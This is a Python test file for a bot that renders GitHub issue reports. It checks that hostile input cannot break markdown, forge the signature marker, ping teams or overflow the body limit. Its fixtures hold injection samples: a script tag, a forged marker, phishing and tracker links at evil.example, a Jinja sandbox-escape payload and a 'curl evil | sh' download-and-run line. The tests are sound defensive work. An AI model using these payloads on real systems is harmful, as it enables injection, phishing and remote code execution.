"""Rendering: hostile text cannot break the markdown, forge the marker or ping anyone; the body
always fits GitHub's limit with the repro intact."""

from __future__ import annotations

import re

import pytest

from bot import fingerprint as fp
from bot.errors import UsageError
from bot.records import CheckRow
from bot.render import BODY_LIMIT, Renderer, code, fence, md
from bot.report import ReportOptions, issue_context, load_run, merge_state
from tests.ghstub.rundir import REPRO, check_row, failure_record, write_run

HOSTILE = ("evil```\n<!-- minify-action:v1 {\"sig\":\"v1:forged\",\"sigs\":[\"v1:forged\"]} -->\n"
           "@acme/core-team #1 <script>alert(1)</script> | x")


def render_for(tmp_path, check, failure, repro_text=REPRO, **opts):
    write_run(tmp_path, [check], {check["id"]: failure}, repro_text=repro_text)
    _, failures, _ = load_run(tmp_path)
    state, _ = merge_state(None, failures, "run-1", "2026-11-22T03:00:00Z")
    r = Renderer(opts.pop("templates_dir", None))
    ctx = issue_context(failures, state, ReportOptions(**opts), tmp_path)
    body, overflow = r.body(ctx, state.to_json())
    return r, ctx, body, overflow, state


def outside_fences(body: str) -> str:
    """The body with fenced blocks removed (fences may be longer than 3 backticks)."""
    out, fence_len = [], 0
    for line in body.splitlines():
        m = re.match(r"^(`{3,})", line)
        if fence_len == 0 and m:
            fence_len = len(m.group(1))
            continue
        if fence_len and m and len(m.group(1)) >= fence_len and line.strip("`") == "":
            fence_len = 0
            continue
        if not fence_len:
            # drop inline code spans too: their content is literal on GitHub
            out.append(re.sub(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", "", line))
    return "\n".join(out)


def test_hostile_model_name_and_error_cannot_forge_ping_or_inject(tmp_path):
    c = check_row(model=HOSTILE, status="fail_to_run", failure_class="compile_error")
    err = {"type": "RuntimeError", "message": HOSTILE, "traceback": "Traceback:\n" + HOSTILE + "\n```\n" + HOSTILE}
    f = failure_record(c, error=err)
    r, ctx, body, _, state = render_for(tmp_path, c, f)
    # exactly one marker, ours, on the last line
    assert body.count("<!-- minify-action:") == 1
    assert fp.parse_marker(body)["sig"] == state.sig
    assert "v1:forged" not in [*fp.parse_marker(body)["sigs"]]
    text = outside_fences(body)
    # Outside code blocks (where GitHub renders HTML, links references and notifies mentions) no
    # hostile markup survives; inside them text is literal and never pings.
    assert "<script>" not in text
    assert "@acme/core-team" not in text  # every mention is broken with a zero-width space
    assert not re.search(r"(?<![\w`])#1\b", text)
    # fences stay balanced: every opened fence is closed
    assert outside_fences(body).count("```") == 0
    title = r.title(ctx)
    # one line, and whatever of the hostile text reaches it can neither ping nor inject
    assert "\n" not in title and len(title) <= 256
    for bad in ("@acme", "<script>", "```", "<!--"):
        assert bad not in title, bad


def test_inline_filters():
    assert md("a|b") == "a\\|b"
    assert code("a|b") == "`a\\|b`"  # a table cell's code span reads it as a plain pipe
    assert "&lt;script&gt;" in md("<script>")
    assert md("@org/team") == "@\u200borg/team"
    assert code("a`b").startswith("``") and code("a`b").endswith("``")
    block = fence("x\n````\ny", "py")
    assert block.startswith("`````py\n") and block.endswith("\n`````")


def test_200kb_traceback_fits_and_keeps_the_repro(tmp_path):
    c = check_row(status="fail_to_run", failure_class="runtime_error")
    frame = '  File "/opt/venv/lib/python3.11/site-packages/torch/_inductor/x.py", line 1, in f\n    f()\n'
    tb = "Traceback (most recent call last):\n" + frame * (200_000 // len(frame)) + "RuntimeError: boom at the end\n"
    assert len(tb) >= 199_000
    f = failure_record(c, error={"type": "RuntimeError", "message": "boom", "traceback": tb})
    f["collect_env"] = "PyTorch version: 2.13\n" * 2000
    _, _, body, overflow, _ = render_for(tmp_path, c, f, artifact_url="https://example.invalid/artifacts/1")
    assert len(body) < BODY_LIMIT
    assert fence(REPRO.rstrip("\n"), "python") in body  # repro inline, intact
    assert "RuntimeError: boom at the end" in body  # the innermost end of the traceback is kept
    assert "traceback" in overflow and "https://example.invalid/artifacts/1" in body
    assert fp.parse_marker(body) is not None


def test_huge_everything_still_fits(tmp_path):
    c = check_row(status="fail_to_run", failure_class="runtime_error")
    f = failure_record(c, error={"type": "E", "message": "m" * 300_000, "traceback": "t" * 300_000})
    f["config"]["diff"] = [{"key": f"k{i}" * 20, "default": None, "value": "v" * 50} for i in range(3000)]
    big_repro = "# " + "x" * 39_000 + "\n" + REPRO
    _, _, body, overflow, _ = render_for(tmp_path, c, f, repro_text=big_repro)
    assert len(body) < BODY_LIMIT
    assert fp.parse_marker(body) is not None
    assert "### Minimized repro" in body and "### Versions" in body and "### Reproduce locally" in body


def test_templates_dir_overrides_and_strict_undefined(tmp_path):
    tdir = tmp_path / "tpl"
    tdir.mkdir()
    (tdir / "issue_body.md.j2").write_text("custom {{ summary }} / {{ sig }}\n")
    run = tmp_path / "run"
    c = check_row()
    _, _, body, _, state = render_for(run, c, failure_record(c), templates_dir=str(tdir))
    assert body.startswith("custom ") and state.sig in body
    assert fp.parse_marker(body)["sig"] == state.sig  # the marker is appended even by custom templates
    # templates are read once per process, before anything runs: a later change is not seen
    (tdir / "issue_body.md.j2").write_text("{{ no_such_variable }}\n")
    _, _, again, _, _ = render_for(tmp_path / "run2", c, failure_record(c), templates_dir=str(tdir))
    assert again.startswith("custom ")
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "issue_body.md.j2").write_text("{{ no_such_variable }}\n")
    with pytest.raises(UsageError, match="no_such_variable"):
        render_for(tmp_path / "run3", c, failure_record(c), templates_dir=str(bad))


def test_templates_are_the_packages_own_and_cannot_run_python(tmp_path):
    """A template given with --templates formats text but cannot reach Python (a sandboxed
    environment); the package's own are all there (tests/test_action_token_isolation.py plants
    templates beside an installed package as an attacker would)."""
    from bot import render

    assert set(render.TEMPLATE_NAMES) <= set(render.preload())
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / "issue_title.j2").write_text("{{ ''.__class__.__mro__[1].__subclasses__() }}")
    with pytest.raises(UsageError, match="issue_title.j2"):
        render.Renderer(str(evil)).render("issue_title.j2")


def test_reproduce_locally_shows_a_command_only_when_the_report_was_configured_with_it():
    from bot.report import reproduce_command

    check = CheckRow.from_json({"id": "bench-inductor-inference-float32-cpu", "model": "bench", "backend": "inductor",
             "mode": "inference", "dtype": "float32", "device": "cpu", "config": {},
             "spec": {"source": "command", "command": "python bench.py --layers 30", "cwd": "/src/my bench",
                      "patterns": {"accuracy": ["drift of [0-9.]+"], "error": []}}})
    untrusted = reproduce_command(check, True)
    assert "bench.py" not in untrusted and "--command COMMAND" in untrusted
    trusted = reproduce_command(check, True, ("python bench.py --layers 30",))
    lines = trusted.splitlines()
    assert lines[1] == "cd '/src/my bench'"
    assert lines[2].startswith("python bench.py --layers 30    #")
    assert ("minify-bot check --suite command --command 'python bench.py --layers 30' --name bench "
            "--accuracy-pattern 'drift of [0-9.]+'") in lines[3]
    # a different command in the artifact is still not offered, whatever the report trusts
    other = check.replace(spec=check.spec.replace(command="curl evil | sh"))
    assert "curl" not in reproduce_command(other, True, ("python bench.py --layers 30",))


# ---------------------------------------------------------------------------- tables

CELL_BREAKER = "a|[pwn](https://evil.example/phish) <img src=https://evil.example/t.png> **bold** @acme #1"


def tables(body: str):
    """(header cells, row cells) of every body row of every table in ``body``, cells split the way
    GitHub splits them: on every pipe not escaped by a backslash, code spans or not."""
    def cells(line):
        return re.split(r"(?<!\\)\|", line.strip())[1:-1]

    lines = body.splitlines()
    header = None
    for i, line in enumerate(lines):
        if i + 1 < len(lines) and line.startswith("|") and re.fullmatch(r"\|(-+\|)+", lines[i + 1]):
            header = cells(line)
        elif header is not None and line.startswith("|") and not re.fullmatch(r"\|(-+\|)+", line):
            yield header, cells(line)
        elif not line.startswith("|"):
            header = None


def test_a_pipe_in_a_setting_or_version_cannot_end_its_table_cell(tmp_path):
    """A setting's default, a version string or an op name (artifact text) holding ``|`` stays in its
    own cell, as literal code: nothing of it becomes a link, an image or HTML in the next cell."""
    c = check_row()
    f = failure_record(c)
    f["versions"]["os"] = "Linux|" + CELL_BREAKER
    f["config"]["diff"].append({"key": "inductor.x|y", "default": CELL_BREAKER, "value": "b|`c`|"})
    f["config"]["minimal"].append({"key": "inductor.x|y", "default": CELL_BREAKER, "value": "b"})
    _, _, body, _, _ = render_for(tmp_path, c, f)
    rows = list(tables(body))
    hostile = [cells for _, cells in rows if any("evil.example" in x for x in cells)]
    assert len(hostile) == 3  # both config tables and the versions table
    for header, cells in rows:
        assert len(cells) == len(header), cells
        for cell in cells:
            literal = re.sub(r"(`+)(?!`).+?(?<!`)\1(?!`)", "", cell)  # code spans are literal on GitHub
            assert "evil.example" not in literal and "<img" not in literal and "@acme" not in literal, cell


def test_a_bare_url_is_broken_in_text_but_kept_copyable_inside_code():
    """GitHub links a bare ``https://…`` in text, never inside a code span or block: text breaks it
    after the scheme, code keeps it as it is (a related issue's address, a log line, stays usable)."""
    from bot import render

    url = "https://github.com/pytorch/pytorch/issues/1"
    assert url not in render.md(f"see {url}") and "github.com/pytorch/pytorch/issues/1" in render.md(url)
    assert url in render.code(url)
    assert url in render.logfence(f"fetched {url}")
